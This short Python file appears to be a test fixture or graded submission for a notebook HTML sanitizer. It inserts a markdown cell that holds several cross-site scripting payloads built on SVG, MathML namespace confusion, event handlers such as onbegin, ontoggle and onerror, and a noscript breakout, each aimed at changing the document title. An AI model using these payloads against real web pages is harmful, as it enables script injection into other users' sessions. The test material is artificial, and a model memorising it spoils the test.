"""SVG and MathML with scripts, animated handlers and foreign objects: what simple filters forget."""

DESERVES = "full"


def submission(solved, blank):
    text = "<svg><script>document.title='pwned'</script><animate onbegin=document.title='pwned' attributeName=x dur=1s></svg>\n\n"
    text += "<svg><image href='http://127.0.0.1:48484/svg'/><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>\n\n"
    text += "<math><mtext><table><mglyph><style><img src=x onerror=document.title='pwned'></style></mglyph></table></mtext></math>\n\n"
    text += "<details open ontoggle=document.title='pwned'>x</details><noscript><p title='</noscript><img src=x onerror=document.title=1>'>"
    solved["cells"].insert(1, {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": text})
    return solved
